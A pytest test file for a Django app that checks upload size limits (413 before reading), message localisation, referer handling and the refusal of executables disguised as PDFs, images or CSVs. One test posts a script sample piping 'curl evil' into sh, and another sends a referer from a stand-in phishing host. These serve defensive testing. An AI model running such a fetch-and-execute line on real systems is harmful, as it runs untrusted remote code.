"""Too big an upload is refused before it is read (413), and a program is refused whatever its name:
task attachments and customer imports, on the pages and in the API, in the reader's language."""

from __future__ import annotations

import pytest
from asgiref.testing import ApplicationCommunicator
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from django.urls import reverse

from tests.factories import TaskFactory, UserFactory
from tradewind.accounts.services import api_token_create
from tradewind.crm.imports.models import ImportJob
from tradewind.files.limits import FORM_OVERHEAD_BYTES, upload_routes
from tradewind.files.models import StoredFile
from tradewind.tasks.models import TaskAttachment
from tradewind.workspaces.choices import Role

MB = 1024 * 1024
PDF = b"%PDF-1.7\n" + b"0" * 1000


class Unreadable:
    """A request body that fails the test if anything reads it."""

    def read(self, *args):
        raise AssertionError("the body was read")

    readline = read


@pytest.fixture
def limits(settings):
    settings.ATTACHMENT_MAX_BYTES = 1 * MB
    settings.IMPORT_MAX_BYTES = 2 * MB
    return settings


@pytest.fixture
def rep(member_factory):
    return member_factory(Role.SALES, user=UserFactory(full_name="Amy Liu"))


@pytest.fixture
def task(rep):
    return TaskFactory(actor=rep, title="Send the PI to Müller")


def api_for(member) -> Client:
    _t, raw = api_token_create(membership=member, name="script", expires_at=None, ip=None)
    return Client(HTTP_AUTHORIZATION=f"Bearer {raw}")


def attachment_url(task) -> str:
    return f"/w/{task.workspace.slug}/tasks/{task.public_id}/attachments/"


def attachment_api(task) -> str:
    return f"/api/v1/workspaces/{task.workspace.slug}/tasks/{task.public_id}/attachments"


def import_url(workspace) -> str:
    return f"/w/{workspace.slug}/customers/imports/"


def import_api(workspace) -> str:
    return f"/api/v1/workspaces/{workspace.slug}/customer-imports"


def claims(client: Client, path: str, length: int):
    """A POST whose Content-Length says `length` bytes, with a body nobody may read."""
    return client.generic(
        "POST",
        path,
        b"",
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
        CONTENT_LENGTH=str(length),
        **{"wsgi.input": Unreadable()},
    )


def post_file(client: Client, path: str, name: str, data: bytes, **extra):
    return client.post(path, {"file": SimpleUploadedFile(name, data)}, **extra)


# --- by the Content-Length, unread ----------------------------------------------------------------------


def test_a_too_big_attachment_gets_413_before_its_body_is_read(limits, rep, task, client_for):
    r = claims(client_for(rep), attachment_url(task), 30 * MB)
    assert r.status_code == 413
    html = r.content.decode()
    assert "The upload is 30.0 MB; the limit is 1 MB." in html and 'data-testid="upload-refused"' in html
    r = claims(api_for(rep), attachment_api(task), 30 * MB)
    assert r.status_code == 413
    assert r.json() == {
        "code": "too_large",
        "message": "The upload is 30.0 MB; the limit is 1 MB.",
        "fields": {"file": ["The upload is 30.0 MB; the limit is 1 MB."]},
    }
    assert not TaskAttachment.objects.exists() and not StoredFile.objects.exists()


def test_a_too_big_import_gets_413_before_its_body_is_read(limits, rep, client_for):
    r = claims(client_for(rep), import_url(rep.workspace), 5 * 1000 * 1000 * 1000)
    assert r.status_code == 413 and "the limit is 2 MB" in r.content.decode()
    r = claims(api_for(rep), import_api(rep.workspace), 60 * MB)
    assert (
        r.status_code == 413
        and r.json()["code"] == "too_large"
        and "the limit is 2 MB" in r.json()["message"]
    )
    assert not ImportJob.objects.exists()


def test_each_url_has_its_own_limit_and_others_take_form_data_only(limits, rep, task, client_for):
    client = client_for(rep)
    # 1.5 MB is too much for an attachment, not for an import (whose file is then refused for what it is).
    assert claims(client, attachment_url(task), int(1.5 * MB)).status_code == 413
    r = post_file(
        client, import_url(rep.workspace), "customers.csv", b"Company,Country\nA GmbH,DE\n" * 50_000
    )
    assert r.status_code == 302
    # A URL that takes no file takes what Django takes for a form (5 MB).
    assert claims(client, f"/w/{rep.workspace.slug}/tasks/new/", 6 * MB).status_code == 413
    assert client.get(f"/w/{rep.workspace.slug}/tasks/new/").status_code == 200  # reads are left alone


def test_the_message_is_in_the_readers_language(limits, member_factory, client_for):
    reader = member_factory(Role.SALES, user=UserFactory(full_name="王芳", language="zh-hans"))
    task = TaskFactory(actor=reader, title="订舱")
    r = claims(client_for(reader), attachment_url(task), 30 * MB)
    assert r.status_code == 413 and "上传的文件为 30.0 MB，上限是 1 MB。" in r.content.decode()
    r = claims(api_for(reader), attachment_api(task), 30 * MB)
    assert r.json()["message"] == "上传的文件为 30.0 MB，上限是 1 MB。"


def test_a_page_that_refuses_links_back_to_where_the_form_was(limits, rep, task, client_for):
    page = f"http://testserver/w/{rep.workspace.slug}/tasks/{task.public_id}/"
    r = client_for(rep).generic(
        "POST",
        attachment_url(task),
        b"",
        content_type=MULTIPART_CONTENT,
        CONTENT_LENGTH=str(30 * MB),
        HTTP_REFERER=page,
        **{"wsgi.input": Unreadable()},
    )
    assert f'href="{page}"' in r.content.decode()
    r = client_for(rep).generic(
        "POST",
        attachment_url(task),
        b"",
        content_type=MULTIPART_CONTENT,
        CONTENT_LENGTH=str(30 * MB),
        HTTP_REFERER="https://evil.example/phish",
        **{"wsgi.input": Unreadable()},
    )
    assert "evil.example" not in r.content.decode()


def test_a_chunked_body_without_a_length_is_refused_not_read_as_empty(limits, rep, task, client_for):
    r = client_for(rep).generic(
        "POST",
        attachment_url(task),
        b"",
        content_type=MULTIPART_CONTENT,
        HTTP_TRANSFER_ENCODING="chunked",
        **{"wsgi.input": Unreadable()},
    )
    assert r.status_code == 411 and "Content-Length" in r.content.decode()


# --- while reading: the upload handler ------------------------------------------------------------------


def test_a_file_over_the_limit_in_a_body_within_it_is_cut_off_while_read(limits, rep, task, client_for):
    """The Content-Length passes (the form's margin), the file does not: the handler stops reading."""
    data = b"%PDF-1.7\n" + b"0" * (MB + 100_000)
    assert len(data) < MB + FORM_OVERHEAD_BYTES
    r = post_file(client_for(rep), attachment_url(task), "big scan.pdf", data)
    assert r.status_code == 413 and "“big scan.pdf” is larger than the limit of 1 MB." in r.content.decode()
    r = post_file(api_for(rep), attachment_api(task), "big scan.pdf", data)
    assert r.status_code == 413 and r.json()["message"] == "“big scan.pdf” is larger than the limit of 1 MB."
    big_csv = b"Company,Country\n" + b"Firma GmbH,DE\n" * (2 * MB // 14 + 10_000)
    r = post_file(client_for(rep), import_url(rep.workspace), "customers.csv", big_csv)
    assert r.status_code == 413 and "is larger than the limit of 2 MB" in r.content.decode()
    r = post_file(api_for(rep), import_api(rep.workspace), "customers.csv", big_csv)
    assert r.status_code == 413 and r.json()["code"] == "too_large"
    assert not TaskAttachment.objects.exists() and not ImportJob.objects.exists()
    assert not StoredFile.objects.exists()


def test_a_body_that_says_it_is_shorter_is_cut_off_under_djangos_asgi_handler(limits):
    """Django's own ASGI handler hands the view all the body, whatever its Content-Length says: the
    handler stops at the limit there too. (Under WSGI Django never reads past the Content-Length.)"""
    from django.core.asgi import get_asgi_application

    body = encode_multipart(BOUNDARY, {"file": SimpleUploadedFile("scan.pdf", b"%PDF-1.7\n" + b"0" * 3 * MB)})
    path = "/w/haitian/tasks/00000000-0000-4000-8000-000000000000/attachments/"
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [
            (b"host", b"testserver"),
            (b"content-type", MULTIPART_CONTENT.encode()),
            (b"content-length", b"1000"),  # the lie
        ],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }

    async def run():
        communicator = ApplicationCommunicator(get_asgi_application(), scope)
        step = 256 * 1024
        for start in range(0, len(body), step):
            chunk = body[start : start + step]
            await communicator.send_input(
                {"type": "http.request", "body": chunk, "more_body": start + step < len(body)}
            )
        start = await communicator.receive_output(10)
        content = await communicator.receive_output(10)
        await communicator.send_input({"type": "http.disconnect"})
        await communicator.wait(5)
        return start, content

    from asgiref.sync import async_to_sync

    start, content = async_to_sync(run)()
    assert start["status"] == 413
    assert "“scan.pdf” is larger than the limit of 1 MB." in content["body"].decode()


def test_every_registered_upload_url_exists():
    routes = upload_routes()
    assert {"tasks:attachment_upload", "crm_imports:list", "api:customer_import_create"} <= set(routes)
    for name in routes:
        namespace, _sep, url_name = name.partition(":")
        assert any(p.name == url_name for p in _patterns(namespace)), (
            f"{name} is registered as an upload URL but no URL has that name"
        )


def _patterns(namespace):
    from django.urls import get_resolver

    for entry in get_resolver().url_patterns:
        if getattr(entry, "namespace", None) == namespace:
            yield from entry.url_patterns


# --- programs whatever their name -----------------------------------------------------------------------

PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200


def test_a_renamed_program_is_not_attached(rep, task, client_for):
    r = post_file(client_for(rep), attachment_url(task), "invoice.pdf", PROGRAM, follow=True)
    assert "“invoice.pdf” is a Windows program, whatever its name says" in r.content.decode()
    r = post_file(api_for(rep), attachment_api(task), "photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 60)
    assert r.status_code == 422 and r.json()["code"] == "program_refused"
    assert "is a Linux program" in r.json()["message"]
    r = post_file(
        client_for(rep), attachment_url(task), "notes.txt", b"#!/bin/bash\ncurl evil | sh\n", follow=True
    )
    assert "is a script" in r.content.decode()
    assert not TaskAttachment.objects.exists() and not StoredFile.objects.exists()
    # A real PDF is attached, typed by its content.
    post_file(client_for(rep), attachment_url(task), "invoice.pdf", PDF)
    assert TaskAttachment.objects.get().content_type == "application/pdf"


def test_a_renamed_program_is_not_imported(rep, client_for):
    r = post_file(client_for(rep), import_url(rep.workspace), "customers.xlsx", PROGRAM)
    assert r.status_code == 400 and "is a Windows program" in r.content.decode()
    r = post_file(
        api_for(rep), import_api(rep.workspace), "customers.csv", b"\xcf\xfa\xed\xfe" + b"\x00" * 60
    )
    assert r.status_code == 422 and "is a macOS program" in r.json()["message"]
    assert not ImportJob.objects.exists() and not StoredFile.objects.exists()


def test_the_attachment_download_url_needs_the_workspace(rep, task, client_for, member_factory):
    post_file(client_for(rep), attachment_url(task), "invoice.pdf", PDF)
    attachment = TaskAttachment.objects.get()
    url = reverse(
        "api:task_attachment_download",
        kwargs={"slug": rep.workspace.slug, "task_id": task.public_id, "attachment_id": attachment.public_id},
    )
    assert api_for(rep).get(url).status_code == 200
    viewer = member_factory(Role.VIEWER)
    assert api_for(viewer).get(url).status_code == 200  # a viewer reads the team's tasks
    r = post_file(api_for(viewer), attachment_api(task), "more.pdf", PDF)
    assert r.status_code == 403
